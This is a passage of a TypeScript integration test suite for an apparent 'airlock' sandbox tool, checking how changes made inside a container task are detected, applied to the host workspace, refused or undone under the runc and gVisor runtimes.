    assert.deepEqual(restored.find((item) => item.path === 'gone.txt'), { path: 'gone.txt', kind: 'file', sha256: sha256('gone\n') });
    assert.deepEqual(restored.find((item) => item.path === 'edit.txt'), { path: 'edit.txt', kind: 'file', sha256: sha256('one\ntwo\n') });
    assert.deepEqual(restored.find((item) => item.path === 'made'), { path: 'made', kind: 'absent' });
    assert.deepEqual(restored.find((item) => item.path === 'olddir'), { path: 'olddir', kind: 'dir' });
    assert.deepEqual(restored.map((item) => item.path).sort(), [...undoFirst.restored].sort());
  });

  test('undo refuses to lose a host edit made after the apply, unless forced', async (t) => {
    const ws = makeTempDir('airlock-chg-drift-');
    writeWithModes(ws, { 'a.txt': { content: 'a\n' }, 'b.txt': { content: 'b\n', mode: 0o600 } });
    const original = hostTree(ws);
    const task = await startTask(t, ws);
    if (!task) return;
    await task.sh("printf 'A\\n' > a.txt && printf 'B\\n' > b.txt");
    const { report } = await task.changes.apply(task.id, {});
    assert.deepEqual(writtenLines(report), ['write a.txt', 'write b.txt']);
    fs.writeFileSync(path.join(ws, 'a.txt'), 'edited on the host after the apply\n');
    const drifted = hostTree(ws);
    await assert.rejects(task.changes.undo(task.id), /undo would lose host edits made after the apply: a\.txt/);
    assert.deepEqual(hostTree(ws), drifted, 'a refused undo changes nothing');
    const forced = await task.changes.undo(task.id, { force: true });
    assert.deepEqual([...forced.restored].sort(), ['a.txt', 'b.txt']);
    assert.deepEqual(hostTree(ws), original);
    assert.deepEqual(airlockLeftovers(ws), []);
  });

  test('same-size in-place overwrite with its mtime put back is still detected (runc, ctime)', async (t) => {
    const ws = makeTempDir('airlock-chg-mtime-');
    writeFiles(ws, { 'same.txt': 'abcdef\n', 'keep.txt': 'keep\n' });
    const task = await startTask(t, ws);
    if (!task) return;
    const mtimes = await task.sh("touch -r same.txt /tmp/ref && printf 'ABCDEF\\n' > same.txt && touch -r /tmp/ref same.txt && stat -c %Y /tmp/ref same.txt");
    const [refTime, fileTime] = mtimes.trim().split('\n');
    assert.equal(fileTime, refTime, 'the mtime was put back');

    const { changeSet } = await task.changes.changes(task.id, { method: 'scanner' });
    assert.equal(changeSet.scan.method, 'scanner');
    assert.deepEqual(statusLines(changeSet), ['modified same.txt']);
    assert.equal(changeFor(changeSet, 'same.txt').hunks, 1);
    const { report } = await task.changes.apply(task.id, {});
    assert.deepEqual(writtenLines(report), ['write same.txt']);
    assert.equal(text(ws, 'same.txt'), 'ABCDEF\n');
  });

  test('the archive method finds the same changes as the scanner', async (t) => {
    const ws = makeTempDir('airlock-chg-methods-');
    writeFiles(ws, {
      'edit.txt': 'edit\n',
      'same.txt': 'abcdef\n',
      'gone.txt': 'gone\n',
      'from.txt': 'move me\n',
      'was-file': 'file\n',
      'script.sh': '#!/bin/sh\n',
      'olddir/inner.txt': 'inner\n',
      'keep/keep.txt': 'keep\n',
    });
    const task = await startTask(t, ws);
    if (!task) return;
    await task.sh(
      [
        "printf 'edited\\n' >> edit.txt",
        "printf 'ABCDEF\\n' > same.txt",
        'rm gone.txt',
        'mv from.txt keep/to.txt',
        "rm was-file && mkdir was-file && printf 'child\\n' > was-file/child.txt",
        "printf 'echo hi\\n' >> script.sh && chmod +x script.sh",
        'rm -rf olddir',
        'mkdir -p empty/dir',
        "mkdir -p n/e/w && printf 'new\\n' > n/e/w/file.txt",
        'ln -s ../edit.txt keep/link',
      ].join(' && '),
    );
    const byScanner = (await task.changes.changes(task.id, { method: 'scanner' })).changeSet;
    const byArchive = (await task.changes.changes(task.id, { method: 'archive' })).changeSet;
    assert.equal(byScanner.scan.method, 'scanner');
    assert.equal(byArchive.scan.method, 'archive');
    const expected = [
      'added empty/dir',
      'added keep/link',
      'added n/e/w/file.txt',
      'added was-file/child.txt',
      'deleted gone.txt',
      'deleted olddir',
      'deleted olddir/inner.txt',
      'modified edit.txt',
      'modified same.txt',
      'modified script.sh',
      'renamed keep/to.txt <- from.txt',
      'typechange was-file',
    ];
    assert.deepEqual(statusLines(byScanner), expected);
    assert.deepEqual(statusLines(byArchive), expected);
    const shape = (change: (typeof byScanner.files)[number]) => {
      const summary = summarizeChange(change);
      return { path: summary.path, status: summary.status, oldPath: summary.oldPath, binary: summary.binary, newMode: summary.newMode, symlinkTarget: summary.symlinkTarget, hunks: summary.hunks, risk: summary.risk, notes: summary.notes, refusal: summary.refusal, sha256: change.after?.sha256 };
    };
    assert.deepEqual(byArchive.files.map(shape), byScanner.files.map(shape));
  });
});

describe('the archive method agrees with the scanner on awkward entries (integration)', () => {
  after(removeTempDirs);

  test(
    'a name that is not UTF-8 is refused by both methods and never written',
    async (t) => {
      const ws = makeTempDir('airlock-chg-nonutf8-');
      writeFiles(ws, { 'a.txt': 'a\n' });
      const task = await startTask(t, ws);
      if (!task) return;
      await task.sh("printf 'q' > \"$(printf 'bad\\377name')\"");
      const byScanner = (await task.changes.changes(task.id, { method: 'scanner' })).changeSet;
      assert.equal(byScanner.files.length, 1);
      assert.match(byScanner.files[0].refusal ?? '', /not valid UTF-8/);
      const { changes, report } = await task.changes.apply(task.id, {}, { method: 'archive' });
      assert.equal(changes.changeSet.files.length, 1);
      assert.match(changes.changeSet.files[0].refusal ?? '', /not valid UTF-8/);
      assert.deepEqual(report.written, []);
      assert.deepEqual(fs.readdirSync(ws), ['a.txt']);
    },
  );

  test(
    'a hard link made in the task is an ordinary added file under both methods',
    async (t) => {
      const ws = makeTempDir('airlock-chg-hardlink-');
      writeFiles(ws, { 'keep.txt': 'keep\n' });
      const task = await startTask(t, ws);
      if (!task) return;
      await task.sh("printf 'twin\\n' > one.txt && ln one.txt two.txt && ln keep.txt keep-link.txt");
      const byScanner = (await task.changes.changes(task.id, { method: 'scanner' })).changeSet;
      assert.deepEqual(statusLines(byScanner), ['added keep-link.txt', 'added one.txt', 'added two.txt']);
      for (const change of byScanner.files) {
        assert.equal(change.refusal, undefined, change.path);
        assert.deepEqual(change.notes, ['a hard link in the task; applied as an independent copy'], change.path);
      }
      const { changes, report } = await task.changes.apply(task.id, {}, { method: 'archive' });
      assert.deepEqual(statusLines(changes.changeSet), statusLines(byScanner));
      for (const change of changes.changeSet.files) assert.equal(change.refusal, undefined, change.path);
      assert.deepEqual(writtenLines(report), ['write keep-link.txt', 'write one.txt', 'write two.txt']);
      assert.equal(text(ws, 'two.txt'), 'twin\n');
      assert.equal(text(ws, 'keep-link.txt'), 'keep\n');
    },
  );
});

describe('the change scanner under gVisor (integration)', () => {
  after(removeTempDirs);

  test('edits, appends and same-size overwrites are found under runsc and applied', async (t) => {
    const ws = makeTempDir('airlock-chg-runsc-');
    writeFiles(ws, { 'existing.txt': 'existing\n', 'same.txt': 'abcdef\n', 'gone.txt': 'gone\n', 'keep.txt': 'keep\n', 'src/main.txt': numberedLines('line ', 30) });
    const task = await startTask(t, ws, { runtime: 'runsc' });
    if (!task) return;
    assert.equal(task.record.runtime, 'runsc');
    assert.equal((await task.service.engine.docker.getContainer(task.record.containerId).inspect()).HostConfig.Runtime, 'runsc');
    // cat/find/sed/printf only: Debian's 2022 gVisor answers coreutils' statx() with EINVAL.
    await task.sh(
      [
        'echo x >> existing.txt',
        "printf 'ABCDEF\\n' > same.txt",
        'rm gone.txt',
        "sed -i 's/^line 2$/line two/; s/^line 28$/line twenty-eight/' src/main.txt",
        "mkdir -p n/m && printf 'deep\\n' > n/m/f.txt",
      ].join(' && '),
    );
    assert.equal(await task.sh('cat same.txt existing.txt'), 'ABCDEF\nexisting\nx\n');

    const { changeSet } = await task.changes.changes(task.id, { method: 'scanner' });
    assert.equal(changeSet.scan.method, 'scanner');
    assert.deepEqual(statusLines(changeSet), ['added n/m/f.txt', 'deleted gone.txt', 'modified existing.txt', 'modified same.txt', 'modified src/main.txt']);
    assert.equal(changeFor(changeSet, 'src/main.txt').hunks, 2);
    const { report } = await task.changes.apply(task.id, {});
    assert.deepEqual(report.refused, []);
    assert.deepEqual(writtenLines(report), ['delete gone.txt', 'mkdir n', 'mkdir n/m', 'write existing.txt', 'write n/m/f.txt', 'write same.txt', 'write src/main.txt']);
    assert.equal(text(ws, 'existing.txt'), 'existing\nx\n');
    assert.equal(text(ws, 'same.txt'), 'ABCDEF\n');
    assert.equal(text(ws, 'n/m/f.txt'), 'deep\n');
    assert.equal(text(ws, 'src/main.txt'), numberedLines('line ', 30, { 2: 'line two', 28: 'line twenty-eight' }));
    assert.equal(exists(path.join(ws, 'gone.txt')), false);
    assert.equal(text(ws, 'keep.txt'), 'keep\n');
  });
});
